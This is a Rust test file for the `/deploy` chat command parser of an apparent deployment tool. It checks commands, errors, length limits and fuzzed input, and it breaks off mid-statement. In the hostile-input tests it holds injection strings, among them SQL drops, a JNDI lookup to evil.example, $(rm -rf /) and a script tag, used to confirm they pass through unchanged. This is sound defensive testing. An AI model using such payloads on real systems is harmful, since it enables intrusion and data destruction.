//! The `/deploy …` chat grammar (`golive::chat::grammar`): every command and the exact domain command
//! it produces, the errors (what is missing, the unexpected token, the bad value, the
//! "did you mean" hint), and hostile input that must neither panic nor be altered.

use std::panic::{catch_unwind, AssertUnwindSafe};

mod common;

use common::XorShift;
use golive::chat::grammar::{help, parse, parse_line, ParseError, Request, MAX_LEN};
use golive::domain::Command;

/// Every command of the grammar with its usage line, written out here rather than read from
/// the crate, so a command dropped from the grammar or the help makes a test fail.
const GRAMMAR: &[(&str, &str)] = &[
    ("help", "/deploy help [COMMAND]"),
    ("start", "/deploy start RELEASE [plan=NAME] [at=TIME] [override WHY]"),
    ("lead", "/deploy lead USER"),
    ("status", "/deploy status"),
    ("phase", "/deploy phase start PHASE | /deploy phase done"),
    ("check", "/deploy check ITEM [ITEM…] | /deploy check section=NAME"),
    ("uncheck", "/deploy uncheck ITEM"),
    ("signoff", "/deploy signoff ROLE [NOTE]"),
    ("go", "/deploy go"),
    ("nogo", "/deploy nogo REASON"),
    ("traffic", "/deploy traffic PERCENT [force REASON]"),
    ("rollback", "/deploy rollback [level=immediate|quick|planned] REASON"),
    ("escalate", "/deploy escalate [level=N | N] MESSAGE | /deploy escalate resolve"),
    ("ack", "/deploy ack"),
    ("oncall", "/deploy oncall"),
    ("note", "/deploy note TEXT"),
    ("complete", "/deploy complete"),
    ("abort", "/deploy abort REASON"),
    ("history", "/deploy history"),
    ("blocker", "/deploy blocker TEXT"),
    ("unblock", "/deploy unblock N"),
    ("snooze", "/deploy snooze DURATION [REASON]"),
    ("unsnooze", "/deploy unsnooze"),
    ("remind", "/deploy remind"),
];

const ALL_NAMES: &str =
    "help, start, lead, status, phase, check, uncheck, signoff, go, nogo, traffic, rollback, escalate, ack, oncall, note, \
     complete, abort, history, blocker, unblock, snooze, unsnooze, remind";

fn usage_of(name: &str) -> &'static str {
    GRAMMAR.iter().find(|(n, _)| *n == name).map(|(_, u)| *u).unwrap_or_else(|| panic!("no command {name}"))
}

/// The domain command `text` parses to; fails the test for anything else.
fn change(text: &str) -> Command {
    match parse(text) {
        Ok(Request::Change(c)) => c,
        other => panic!("{text:?} gave {other:?}, not a change"),
    }
}

fn err(text: &str) -> ParseError {
    match parse(text) {
        Ok(r) => panic!("{text:?} was accepted as {r:?}"),
        Err(e) => e,
    }
}

fn missing(command: &'static str, what: &'static str) -> ParseError {
    ParseError::Missing { command, what, usage: usage_of(command) }
}

fn unexpected(token: &str, command: &'static str) -> ParseError {
    ParseError::Unexpected { token: token.to_string(), command, usage: usage_of(command) }
}

fn bad_value(given: &str, what: &'static str, command: &str) -> ParseError {
    ParseError::BadValue { given: given.to_string(), what, usage: usage_of(command) }
}

fn s(text: &str) -> String {
    text.to_string()
}

// ---------------------------------------------------------------------------------------------
// Every command
// ---------------------------------------------------------------------------------------------

#[test]
fn help_with_and_without_a_topic() {
    assert_eq!(parse("help"), Ok(Request::Help { topic: None }));
    assert_eq!(parse("help signoff"), Ok(Request::Help { topic: Some(s("signoff")) }));
    assert_eq!(parse("help   traffic  "), Ok(Request::Help { topic: Some(s("traffic")) }));
    // The topic is passed on as typed; `help()` matches it case-insensitively.
    assert_eq!(parse("help SignOff"), Ok(Request::Help { topic: Some(s("SignOff")) }));
}

#[test]
fn start_with_and_without_a_plan() {
    assert_eq!(
        change("start v2.4.0"),
        Command::Start { release: s("v2.4.0"), plan: None, freeze_override: None, at: None }
    );
    assert_eq!(
        change("start v2.4.0 plan=hotfix"),
        Command::Start { release: s("v2.4.0"), plan: Some(s("hotfix")), freeze_override: None, at: None }
    );
    assert_eq!(
        change("start  release-2024.11.22   plan=std "),
        Command::Start { release: s("release-2024.11.22"), plan: Some(s("std")), freeze_override: None, at: None }
    );
    // Everything after `plan=` is the plan name, even odd characters.
    assert_eq!(
        change("start v1 plan=a=b"),
        Command::Start { release: s("v1"), plan: Some(s("a=b")), freeze_override: None, at: None }
    );
    // The release keeps its case.
    assert_eq!(
        change("start RC-1"),
        Command::Start { release: s("RC-1"), plan: None, freeze_override: None, at: None }
    );
}

#[test]
fn read_only_requests() {
    assert_eq!(parse("status"), Ok(Request::Status));
    assert_eq!(parse("oncall"), Ok(Request::Oncall));
    assert_eq!(parse("history"), Ok(Request::History));
    assert_eq!(parse("  status  "), Ok(Request::Status));
}

#[test]
fn phase_start_and_phase_done() {
    assert_eq!(change("phase start staging"), Command::PhaseStart { phase: s("staging") });
    assert_eq!(change("phase start post-deployment"), Command::PhaseStart { phase: s("post-deployment") });
    assert_eq!(change("phase done"), Command::PhaseDone);
    assert_eq!(change("phase\tstart\tprod"), Command::PhaseStart { phase: s("prod") });
}

#[test]
fn check_and_uncheck_an_item() {
    assert_eq!(change("check db-backup"), Command::Check { item: s("db-backup") });
    assert_eq!(change("uncheck db-backup"), Command::Uncheck { item: s("db-backup") });
    // The id is passed on exactly; ids are matched against the plan elsewhere.
    assert_eq!(change("check DB-Backup"), Command::Check { item: s("DB-Backup") });
    assert_eq!(change("uncheck élément_1"), Command::Uncheck { item: s("élément_1") });
}

#[test]
fn signoff_with_and_without_a_note() {
    assert_eq!(change("signoff security"), Command::SignOff { role: s("security"), note: None });
    assert_eq!(change("signoff security   "), Command::SignOff { role: s("security"), note: None });
    assert_eq!(
        change("signoff security scan clean, 0 criticals"),
        Command::SignOff { role: s("security"), note: Some(s("scan clean, 0 criticals")) }
    );
    assert_eq!(
        change("signoff ops   looks   good  "),
        Command::SignOff { role: s("ops"), note: Some(s("looks   good")) }
    );
    // The `sign-off` spelling is accepted too.
    assert_eq!(change("sign-off ops"), Command::SignOff { role: s("ops"), note: None });
}

#[test]
fn go_and_nogo() {
    assert_eq!(change("go"), Command::Go);
    assert_eq!(change("nogo vendor API is down"), Command::NoGo { reason: s("vendor API is down") });
    assert_eq!(change("no-go vendor down"), Command::NoGo { reason: s("vendor down") });
}

#[test]
fn traffic_takes_a_percentage_with_or_without_the_sign() {
    for (text, percent) in
        [("traffic 50", 50), ("traffic 70%", 70), ("traffic 85", 85), ("traffic 100", 100), ("traffic 100%", 100)]
    {
        assert_eq!(change(text), Command::Traffic { percent, force: None }, "{text}");
    }
    assert_eq!(change("traffic 1"), Command::Traffic { percent: 1, force: None });
    assert_eq!(change("traffic 007"), Command::Traffic { percent: 7, force: None });
}

#[test]
fn traffic_out_of_range_or_not_a_number_is_refused_naming_the_value() {
    for bad in ["0", "0%", "101", "101%", "255", "256", "1000", "abc", "-5", "50.5", "%", "fifty", "5O"] {
        let e = err(&format!("traffic {bad}"));
        assert_eq!(e, bad_value(bad, "a percentage from 1 to 100", "traffic"), "traffic {bad}");
        assert_eq!(
            e.to_string(),
            format!("`{bad}` is not a percentage from 1 to 100; usage: `/deploy traffic PERCENT [force REASON]`")
        );
    }
}

#[test]
fn rollback_abort_and_note_take_free_text() {
    assert_eq!(
        change("rollback 5xx spike after 70%"),
        Command::Rollback { reason: s("5xx spike after 70%"), level: None }
    );
    assert_eq!(change("abort wrong branch"), Command::Abort { reason: s("wrong branch") });
    assert_eq!(change("note cache warmed"), Command::Note { text: s("cache warmed") });
}

#[test]
fn escalate_with_a_level_without_one_and_resolve() {
    assert_eq!(change("escalate db is slow"), Command::Escalate { level: None, message: s("db is slow") });
    assert_eq!(change("escalate 2 db is slow"), Command::Escalate { level: Some(2), message: s("db is slow") });
    assert_eq!(
        change("escalate 3   call   everyone "),
        Command::Escalate { level: Some(3), message: s("call   everyone") }
    );
    assert_eq!(change("escalate resolve"), Command::EscalateResolve);
    assert_eq!(change("escalate RESOLVE"), Command::EscalateResolve);
    // Only the bare word `resolve` closes; anything else is the message.
    assert_eq!(
        change("escalate resolved? not yet"),
        Command::Escalate { level: None, message: s("resolved? not yet") }
    );
    // A number that is not the first word is part of the message.
    assert_eq!(change("escalate db 2 slow"), Command::Escalate { level: None, message: s("db 2 slow") });
}

#[test]
fn escalate_level_that_is_not_a_small_number_is_refused() {
    assert_eq!(err("escalate 256 everything is down"), bad_value("256", "a level number", "escalate"));
    assert_eq!(err("escalate 99999999999999999999 x"), bad_value("99999999999999999999", "a level number", "escalate"));
    assert!(err("escalate 999 x").to_string().starts_with("`999` is not a level number; usage: `/deploy escalate"));
}

#[test]
fn ack_complete() {
    assert_eq!(change("ack"), Command::Ack);
    assert_eq!(change("complete"), Command::Complete);
}

#[test]
fn the_command_word_is_case_insensitive() {
    let cases: Vec<(&str, Request)> = vec![
        ("HELP", Request::Help { topic: None }),
        ("Status", Request::Status),
        ("ONCALL", Request::Oncall),
        ("HiStOrY", Request::History),
        ("START v1", Request::Change(Command::Start { release: s("v1"), plan: None, freeze_override: None, at: None })),
        ("Phase Start staging", Request::Change(Command::PhaseStart { phase: s("staging") })),
        ("PHASE DONE", Request::Change(Command::PhaseDone)),
        ("Check tests", Request::Change(Command::Check { item: s("tests") })),
        ("UNCHECK tests", Request::Change(Command::Uncheck { item: s("tests") })),
        ("SIGNOFF ops", Request::Change(Command::SignOff { role: s("ops"), note: None })),
        ("Sign-Off ops", Request::Change(Command::SignOff { role: s("ops"), note: None })),
        ("GO", Request::Change(Command::Go)),
        ("Go", Request::Change(Command::Go)),
        ("NOGO Bad Idea", Request::Change(Command::NoGo { reason: s("Bad Idea") })),
        ("No-Go x", Request::Change(Command::NoGo { reason: s("x") })),
        ("TRAFFIC 70%", Request::Change(Command::Traffic { percent: 70, force: None })),
        ("RollBack Errors UP", Request::Change(Command::Rollback { reason: s("Errors UP"), level: None })),
        ("ESCALATE 2 DB", Request::Change(Command::Escalate { level: Some(2), message: s("DB") })),
        ("Escalate Resolve", Request::Change(Command::EscalateResolve)),
        ("ACK", Request::Change(Command::Ack)),
        ("NOTE Keep THIS case", Request::Change(Command::Note { text: s("Keep THIS case") })),
        ("COMPLETE", Request::Change(Command::Complete)),
        ("ABORT Because", Request::Change(Command::Abort { reason: s("Because") })),
    ];
    for (text, expected) in cases {
        assert_eq!(parse(text), Ok(expected), "{text:?}");
    }
}

#[test]
fn free_text_is_trimmed_but_keeps_its_inner_spacing() {
    let inner = "a  b\t\tc \n d";
    for (word, make) in [
        ("note", (|t: String| Command::Note { text: t }) as fn(String) -> Command),
        ("nogo", |t| Command::NoGo { reason: t }),
        ("rollback", |t| Command::Rollback { reason: t, level: None }),
        ("abort", |t| Command::Abort { reason: t }),
        ("escalate", |t| Command::Escalate { level: None, message: t }),
        ("escalate 1", |t| Command::Escalate { level: Some(1), message: t }),
        ("signoff ops", |t| Command::SignOff { role: s("ops"), note: Some(t) }),
    ] {
        let text = format!("{word}  \t {inner} \t\n ");
        assert_eq!(change(&text), make(inner.to_string()), "{text:?}");
    }
}

#[test]
fn any_whitespace_separates_tokens() {
    assert_eq!(change("\t phase \n start \r\n staging \t"), Command::PhaseStart { phase: s("staging") });
    assert_eq!(
        change("start\tv1\nplan=hotfix"),
        Command::Start { release: s("v1"), plan: Some(s("hotfix")), freeze_override: None, at: None }
    );
    // Unicode spaces count as whitespace too (a pasted no-break space, an ideographic space).
    assert_eq!(change("\u{a0}go\u{a0}"), Command::Go);
    assert_eq!(change("check\u{3000}tests"), Command::Check { item: s("tests") });
}

// ---------------------------------------------------------------------------------------------
// parse_line: the optional slash command in front
// ---------------------------------------------------------------------------------------------

#[test]
fn parse_line_accepts_the_slash_command_or_none() {
    let go = Ok(Request::Change(Command::Go));
    assert_eq!(parse_line("/deploy go", "/deploy"), go);
    assert_eq!(parse_line("deploy go", "/deploy"), go);
    assert_eq!(parse_line("go", "/deploy"), go);
    assert_eq!(parse_line("   /deploy    go   ", "/deploy"), go);
    assert_eq!(parse_line("/deploy\tgo", "/deploy"), go);
    assert_eq!(
        parse_line("/deploy note  two  spaces ", "/deploy"),
        Ok(Request::Change(Command::Note { text: s("two  spaces") }))
    );
    assert_eq!(
        parse_line("/deploy start v1 plan=hotfix", "/deploy"),
        Ok(Request::Change(Command::Start {
            release: s("v1"),
            plan: Some(s("hotfix")),
            freeze_override: None,
            at: None
        }))
    );
    // The slash command alone is an empty command.
    assert_eq!(parse_line("/deploy", "/deploy"), Err(ParseError::Empty));
    assert_eq!(parse_line("/deploy   ", "/deploy"), Err(ParseError::Empty));
    assert_eq!(parse_line("", "/deploy"), Err(ParseError::Empty));
}

#[test]
fn parse_line_with_a_custom_command_name() {
    let go = Ok(Request::Change(Command::Go));
    assert_eq!(parse_line("/ship go", "/ship"), go);
    assert_eq!(parse_line("ship go", "/ship"), go);
    // The name may be configured with or without its slash.
    assert_eq!(parse_line("/ship go", "ship"), go);
    assert_eq!(parse_line("ship go", "ship"), go);
    assert_eq!(parse_line("go", "/ship"), go);
    // With a custom name, `/deploy` is just an unknown word.
    assert_eq!(
        parse_line("/deploy go", "/ship"),
        Err(ParseError::UnknownCommand { given: s("/deploy"), hint: String::new() })
    );
}

#[test]
fn parse_line_only_strips_the_whole_command_name() {
    // "/deployx" is not "/deploy" followed by a command.
    assert_eq!(
        parse_line("/deployx go", "/deploy"),
        Err(ParseError::UnknownCommand { given: s("/deployx"), hint: String::new() })
    );
    assert!(parse_line("deploying go", "/deploy").is_err());
    // Only one leading command name is taken off.
    assert!(parse_line("/deploy /deploy go", "/deploy").is_err());
    // A command name later in the line is left alone.
    assert_eq!(
        parse_line("note /deploy go was typed", "/deploy"),
        Ok(Request::Change(Command::Note { text: s("/deploy go was typed") }))
    );
}

#[test]
fn parse_line_applies_the_limit() {
    let text = format!("note {}", "x".repeat(MAX_LEN - 5));
    assert!(parse_line(&text, "/deploy").is_ok());
    assert_eq!(parse_line(&format!("{text}y"), "/deploy"), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
    assert!(matches!(parse_line(&format!("/deploy {text}yy"), "/deploy"), Err(ParseError::TooLong { .. })));
}

#[test]
fn parse_line_applies_the_limit_to_the_text_after_the_command_name() {
    let text = format!("note {}", "x".repeat(MAX_LEN - 5));
    assert_eq!(text.chars().count(), MAX_LEN);
    assert!(parse_line(&format!("/deploy {text}"), "/deploy").is_ok());
    assert_eq!(parse_line(&format!("/deploy {text}y"), "/deploy"), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
}

// ---------------------------------------------------------------------------------------------
// Errors
// ---------------------------------------------------------------------------------------------

#[test]
fn empty_or_blank_input_asks_what_to_do() {
    for blank in ["", " ", "   ", "\t", "\n", "\r\n", " \t \n ", "\u{a0}", "\u{3000}", "\u{2028}"] {
        assert_eq!(parse(blank), Err(ParseError::Empty), "{blank:?}");
    }
    let e = ParseError::Empty.to_string();
    assert_eq!(e, format!("say what to do: `/deploy help` lists the commands ({ALL_NAMES})"));
}

#[test]
fn unknown_commands_list_the_commands() {
    let e = err("shipit now");
    assert_eq!(e, ParseError::UnknownCommand { given: s("shipit"), hint: String::new() });
    assert_eq!(e.to_string(), format!("unknown command `shipit`; commands: {ALL_NAMES}"));
}

#[test]
fn near_misses_get_a_did_you_mean_hint() {
    for (typo, meant) in [
        ("signof", "signoff"),
        ("sigoff", "signoff"),
        ("signofff", "signoff"),
        ("statu", "status"),
        ("rollbak", "rollback"),
        ("escalte", "escalate"),
        ("histroy", "history"),
        ("chekc", "check"),
        ("compelte", "complete"),
        ("abrot", "abort"),
        ("trafic", "traffic"),
        ("oncal", "oncall"),
        ("uncheckk", "uncheck"),
        ("ntoe", "note"),
        ("strat", "start"),
        ("phaes", "phase"),
    ] {
        let e = err(&format!("{typo} x"));
        assert_eq!(
            e,
            ParseError::UnknownCommand { given: s(typo), hint: format!(" (did you mean `{meant}`?)") },
            "{typo}"
        );
        assert_eq!(e.to_string(), format!("unknown command `{typo}` (did you mean `{meant}`?); commands: {ALL_NAMES}"));
    }
    // The hint is found for any case; the error names the word as typed.
    assert_eq!(
        err("SIGNOF ops").to_string(),
        format!("unknown command `SIGNOF` (did you mean `signoff`?); commands: {ALL_NAMES}")
    );
}

#[test]
fn far_misses_get_no_hint() {
    for word in ["deployit", "shipit", "release", "rollforward", "acknowledge", "signature"] {
        assert_eq!(err(word), ParseError::UnknownCommand { given: s(word), hint: String::new() }, "{word}");
        assert!(!err(word).to_string().contains("did you mean"));
    }
}

#[test]
fn a_word_sharing_nothing_with_a_command_gets_no_hint() {
    for word in ["x", "zz", "?"] {
        assert_eq!(err(word), ParseError::UnknownCommand { given: s(word), hint: String::new() }, "{word:?}");
    }
    // Echoed escaped, so an invisible character is seen.
    assert_eq!(err("\u{0}"), ParseError::UnknownCommand { given: s("\\u{0}"), hint: String::new() });
}

#[test]
fn a_swapped_letter_pair_suggests_the_command_it_comes_from() {
    assert_eq!(err("stauts"), ParseError::UnknownCommand { given: s("stauts"), hint: s(" (did you mean `status`?)") });
}

#[test]
fn missing_arguments_name_what_is_missing_and_the_usage() {
    let cases = [
        ("start", missing("start", "a release name")),
        ("phase", missing("phase", "`start PHASE` or `done`")),
        ("phase start", missing("phase", "the phase to start")),
        ("check", missing("check", "the item id")),
        ("uncheck", missing("uncheck", "the item id")),
        ("signoff", missing("signoff", "the role you sign off as")),
        ("sign-off   ", missing("signoff", "the role you sign off as")),
        ("nogo", missing("nogo", "the reason")),
        ("no-go", missing("nogo", "the reason")),
        ("nogo \t ", missing("nogo", "the reason")),
        ("traffic", missing("traffic", "the percentage")),
        ("rollback", missing("rollback", "the reason")),
        ("escalate", missing("escalate", "a message")),
        ("escalate 2", missing("escalate", "a message")),
        ("escalate 2   ", missing("escalate", "a message")),
        ("note", missing("note", "the text")),
        ("note    ", missing("note", "the text")),
        ("abort", missing("abort", "the reason")),
    ];
    for (text, expected) in cases {
        assert_eq!(err(text), expected, "{text:?}");
    }
    assert_eq!(
        err("start").to_string(),
        "`start` needs a release name; usage: `/deploy start RELEASE [plan=NAME] [at=TIME] [override WHY]`"
    );
    assert_eq!(
        err("phase start").to_string(),
        "`phase` needs the phase to start; usage: `/deploy phase start PHASE | /deploy phase done`"
    );
    assert_eq!(
        err("check").to_string(),
        "`check` needs the item id; usage: `/deploy check ITEM [ITEM…] | /deploy check section=NAME`"
    );
    assert_eq!(err("nogo").to_string(), "`nogo` needs the reason; usage: `/deploy nogo REASON`");
    assert_eq!(
        err("escalate 2").to_string(),
        "`escalate` needs a message; usage: `/deploy escalate [level=N | N] MESSAGE | /deploy escalate resolve`"
    );
}

#[test]
fn start_with_only_a_plan_option_says_the_release_is_missing() {
    assert_eq!(err("start plan=hotfix"), missing("start", "a release name"));
}

#[test]
fn extra_tokens_are_refused_naming_the_token() {
    let cases = [
        ("status now", unexpected("now", "status")),
        ("oncall please", unexpected("please", "oncall")),
        ("history 10", unexpected("10", "history")),
        ("go now", unexpected("now", "go")),
        ("go   now  please", unexpected("now", "go")),
        ("ack it", unexpected("it", "ack")),
        ("complete !", unexpected("!", "complete")),
        ("uncheck a b c", unexpected("b", "uncheck")),
        ("phase start staging now", unexpected("now", "phase")),
        ("phase done now", unexpected("now", "phase")),
        ("phase begin staging", unexpected("begin", "phase")),
        ("traffic 50 70", unexpected("70", "traffic")),
        ("traffic 50 %", unexpected("%", "traffic")),
        ("escalate resolve now", unexpected("now", "escalate")),
        ("start v1 hotfix", unexpected("hotfix", "start")),
        ("start v1 plan=hotfix now", unexpected("now", "start")),
    ];
    for (text, expected) in cases {
        assert_eq!(err(text), expected, "{text:?}");
    }
    assert_eq!(err("go now").to_string(), "unexpected `now` after `go`; usage: `/deploy go`");
    assert_eq!(
        err("phase begin staging").to_string(),
        "unexpected `begin` after `phase`; usage: `/deploy phase start PHASE | /deploy phase done`"
    );
}

#[test]
fn a_bad_plan_option_is_refused_naming_the_token() {
    // Option names are words like any other: `PLAN=hotfix` is `plan=hotfix`.
    assert_eq!(err("start v1 PLAN=hotfix now"), unexpected("now", "start"));
    for token in ["plan=", "plan", "plan:hotfix", "plans=hotfix", "hotfix", "=hotfix"] {
        let text = format!("start v1 {token}");
        assert_eq!(err(&text), unexpected(token, "start"), "{text:?}");
        assert_eq!(
            err(&text).to_string(),
            format!("unexpected `{token}` after `start`; usage: `/deploy start RELEASE [plan=NAME] [at=TIME] [override WHY]`")
        );
    }
    // `plan = x` with spaces: `plan` is the odd token.
    assert_eq!(err("start v1 plan = hotfix"), unexpected("plan", "start"));
    // A second plan option is one too many.
    assert_eq!(err("start v1 plan=a plan=b"), unexpected("plan=b", "start"));
}

#[test]
fn every_error_message_names_the_usage_of_its_own_command() {
    for (name, usage) in GRAMMAR {
        // A word after a command that takes none, or a missing argument: either way the usage shows.
        let text = match *name {
            "help" => continue,
            "status" | "go" | "ack" | "oncall" | "complete" | "history" | "unsnooze" | "remind" => {
                format!("{name} extra")
            }
            _ => name.to_string(),
        };
        let e = err(&text).to_string();
        assert!(e.contains(&format!("usage: `{usage}`")), "{text:?} -> {e}");
        assert!(e.contains(&format!("`{name}`")), "{text:?} -> {e}");
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile input
// ---------------------------------------------------------------------------------------------

#[test]
fn input_up_to_the_limit_is_accepted_and_past_it_refused() {
    let at_limit = format!("note {}", "x".repeat(MAX_LEN - 5));
    assert_eq!(at_limit.chars().count(), MAX_LEN);
    assert_eq!(change(&at_limit), Command::Note { text: "x".repeat(MAX_LEN - 5) });

    let over = format!("{at_limit}y");
    assert_eq!(parse(&over), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
    assert_eq!(
        ParseError::TooLong { len: MAX_LEN + 1 }.to_string(),
        format!("the command is {} characters long; the limit is {MAX_LEN}", MAX_LEN + 1)
    );
    // Far over the limit: the real length is reported.
    assert_eq!(parse(&"a".repeat(100_000)), Err(ParseError::TooLong { len: 100_000 }));
    // The limit is checked before anything else, even for blank text.
    assert_eq!(parse(&" ".repeat(MAX_LEN + 1)), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
    assert_eq!(parse(&" ".repeat(MAX_LEN)), Err(ParseError::Empty));
}

#[test]
fn the_limit_counts_characters_not_bytes() {
    // 4-byte emoji: MAX_LEN characters are 4 × MAX_LEN bytes, and still fine.
    let emoji = format!("note {}", "🚀".repeat(MAX_LEN - 5));
    assert_eq!(emoji.chars().count(), MAX_LEN);
    assert_eq!(change(&emoji), Command::Note { text: "🚀".repeat(MAX_LEN - 5) });
    let over = format!("{emoji}é");
    assert_eq!(parse(&over), Err(ParseError::TooLong { len: MAX_LEN + 1 }));
}

#[test]
fn unicode_in_free_text_is_kept_verbatim() {
    for text in [
        "🚀 shipped 🎉",
        "family 👨\u{200d}👩\u{200d}👧\u{200d}👦 and flag 🇩🇪 and skin tone 👍🏽",
        "مرحبا بالعالم — النشر جاهز",
        "עברית \u{202e}reversed\u{202c} text \u{200f}",
        "e\u{301}\u{301}\u{301} Z\u{336}a\u{30c}\u{32d}l\u{35c}g\u{311}o\u{31a}",
        "\u{301}starts with a combining mark",
        "日本語のテキスト、中文、한국어",
        "zero\u{200b}width\u{feff}joiners",
        "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 math letters",
    ] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
        assert_eq!(change(&format!("nogo {text}")), Command::NoGo { reason: s(text) }, "{text:?}");
        assert_eq!(
            change(&format!("signoff ops {text}")),
            Command::SignOff { role: s("ops"), note: Some(s(text)) },
            "{text:?}"
        );
    }
}

#[test]
fn quotes_backslashes_sql_and_mentions_are_kept_verbatim() {
    for text in [
        "'; DROP TABLE events; --",
        "\"; DELETE FROM deployments WHERE 1=1; --",
        "1' OR '1'='1",
        "\"double\" 'single' `back tick` ```fenced```",
        "C:\\path\\to\\file \\n not a newline \\\\",
        "<!channel> everyone look",
        "<!here> <!everyone> <@U0123ABCD> <#C0123|general>",
        "<https://evil.example|click here> *bold* _it_ ~strike~",
        "@everyone @here <@&123456789>",
        "${jndi:ldap://evil.example/a} $(rm -rf /) `id`",
        "<script>alert(1)</script> &amp; &lt;",
        "%s %n %x {} {0} {{}}",
    ] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
        assert_eq!(change(&format!("rollback {text}")), Command::Rollback { reason: s(text), level: None }, "{text:?}");
        assert_eq!(change(&format!("abort {text}")), Command::Abort { reason: s(text) }, "{text:?}");
        assert_eq!(
            change(&format!("escalate 2 {text}")),
            Command::Escalate { level: Some(2), message: s(text) },
            "{text:?}"
        );
    }
}

#[test]
fn control_characters_inside_free_text_are_kept() {
    for text in ["bell\u{7}here", "esc \u{1b}[31mred\u{1b}[0m", "nul\u{0}byte", "del\u{7f}", "multi\nline\ntext"] {
        assert_eq!(change(&format!("note {text}")), Command::Note { text: s(text) }, "{text:?}");
    }
}

#[test]
fn control_characters_in_the_command_word_make_it_unknown() {
    // Echoed with the control characters written out, so the reader sees why.
    for (text, shown) in [
        ("go\u{0}", "go\\u{0}"),
        ("\u{0}go", "\\u{0}go"),
        ("go\u{7}", "go\\u{7}"),
        ("\u{1b}[31mgo", "\\u{1b}[31mgo"),
        ("g\u{0}o", "g\\u{0}o"),
    ] {
        match parse(text) {
            Err(ParseError::UnknownCommand { given, .. }) => assert_eq!(given, shown, "{text:?}"),
            other => panic!("{text:?} gave {other:?}"),
        }
    }
    // A zero-width space is not whitespace: `go` + ZWSP is not `go`.
    assert!(matches!(parse("go\u{200b}"), Err(ParseError::UnknownCommand { .. })));
}

#[test]
fn a_huge_single_word_is_answered_quickly_without_panicking() {
    let cases = [
        "z".repeat(MAX_LEN),
        "signoff".repeat(MAX_LEN / 7),
        "é".repeat(MAX_LEN),
        "🚀".repeat(MAX_LEN),
        format!("go{}", "o".repeat(MAX_LEN - 2)),
    ];
    for word in &cases {
        assert!(word.chars().count() <= MAX_LEN);
        for _ in 0..10 {
            match parse(word) {
                Err(ParseError::UnknownCommand { given, hint }) => {
                    assert_eq!(&given, word);
                    assert_eq!(hint, "", "a 4,000-character word is no near miss");
                }
                other => panic!("gave {other:?}"),
            }
        }
        let e = parse(word).unwrap_err().to_string();
        assert!(e.starts_with("unknown command `"));
    }
}

#[test]
fn huge_arguments_are_handled() {
    let item = "i".repeat(MAX_LEN - 6);
    assert_eq!(change(&format!("check {item}")), Command::Check { item: item.clone() });
    let many_words = "w ".repeat((MAX_LEN - 5) / 2);
    assert_eq!(change(&format!("note {many_words}")), Command::Note { text: many_words.trim().to_string() });
    assert_eq!(err(&format!("go {many_words}")), unexpected("w", "go"));
    assert_eq!(
        err(&format!("traffic {}", "9".repeat(MAX_LEN - 8))),
        bad_value(&"9".repeat(MAX_LEN - 8), "a percentage from 1 to 100", "traffic")
    );
}

// ---------------------------------------------------------------------------------------------
// Random input
// ---------------------------------------------------------------------------------------------

const WORDS: &[&str] = &[
    "help",
    "start",
    "status",
    "phase",
    "start",
    "done",
    "check",
    "uncheck",
    "signoff",
    "sign-off",
    "go",
    "nogo",
    "no-go",
    "traffic",
    "rollback",
    "escalate",
    "resolve",
    "ack",
    "oncall",
    "note",
    "complete",
    "abort",
    "history",
    "plan=",
    "plan=std",
    "PLAN=x",
    "70%",
    "100",
    "101",
    "0",
    "-1",
    "256",
    "%",
    "2",
    "99999999999999999999",
    " ",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\u{a0}",
    "\u{3000}",
    "é",
    "e\u{301}",
    "🚀",
    "👨\u{200d}👩",
    "مرحبا",
    "\u{202e}",
    "<!channel>",
    "'",
    "\"",
    "\\",
    "`",
    "\u{0}",
    "\u{7}",
    "\u{1b}",
    "\u{feff}",
    "\u{200b}",
    "-",
    "--",
    "/deploy",
    "deploy",
    "GO",
    "Status",
    "'; DROP TABLE events; --",
];

fn random_text(rng: &mut XorShift) -> String {
    match rng.below(4) {
        // Random bytes made valid UTF-8.
        0 => {
            let bytes: Vec<u8> = (0..rng.below(80)).map(|_| rng.next() as u8).collect();
            String::from_utf8_lossy(&bytes).into_owned()
        }
        // Random chars from the whole range.
        1 => (0..rng.below(40)).filter_map(|_| char::from_u32(rng.next() as u32 % 0x11_0000)).collect(),
        // Grammar words, joined with or without spaces.
        2 => {
            let sep = [" ", "", "\t", "  "][rng.below(4)];
            (0..rng.below(8)).map(|_| WORDS[rng.below(WORDS.len())]).collect::<Vec<_>>().join(sep)
        }
        // A valid command with something random after it.
        _ => {
            let (name, _) = GRAMMAR[rng.below(GRAMMAR.len())];
            let tail: String = (0..rng.below(5)).map(|_| WORDS[rng.below(WORDS.len())]).collect::<Vec<_>>().join(" ");
            format!("{name} {tail}")
        }
    }
}

fn check_result(text: &str, result: &Result<Request, ParseError>) {
    match result {
        Err(e) => {
            let shown = e.to_string();
            assert!(!shown.trim().is_empty(), "empty error for {text:?}: {e:?}");
            if let ParseError::TooLong { len } = e {
                assert!(*len > MAX_LEN, "TooLong {len} for {text:?}");
            }
        }
        Ok(Request::Change(Command::Note { text: t }))
        | Ok(Request::Change(Command::NoGo { reason: t }))
        | Ok(Request::Change(Command::Rollback { reason: t, level: None }))
        | Ok(Request::Change(Command::Abort { reason: t }))
        | Ok(Request::Change(Command::Escalate { message: t, .. })) => {
            assert!(!t.is_empty(), "empty free text from {text:?}");
            assert_eq!(t.trim(), t, "untrimmed free text from {text:?}");
            assert!(text.contains(t.as_str()), "free text {t:?} is not a part of {text:?}");
        }
        Ok(Request::Change(Command::Traffic { percent, force: None })) => {
            assert!((1..=100).contains(percent), "traffic {percent} from {text:?}")
        }
        Ok(_) => {}
    }
}

#[test]
fn random_input_never_panics_and_every_error_says_something() {
    let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
    for i in 0..6000 {
        let text = random_text(&mut rng);
        let outcome = catch_unwind(AssertUnwindSafe(|| {
            let parsed = parse(&text);
            check_result(&text, &parsed);
            // Parsing is a pure function of the text.
            assert_eq!(parse(&text), parsed, "{text:?}");
            let line = parse_line(&text, "/deploy");
            check_result(&text, &line);
            let slashed = parse_line(&format!("/deploy {text}"), "/deploy");
            check_result(&text, &slashed);
        }));
        if let Err(panic) = outcome {
            let message = panic
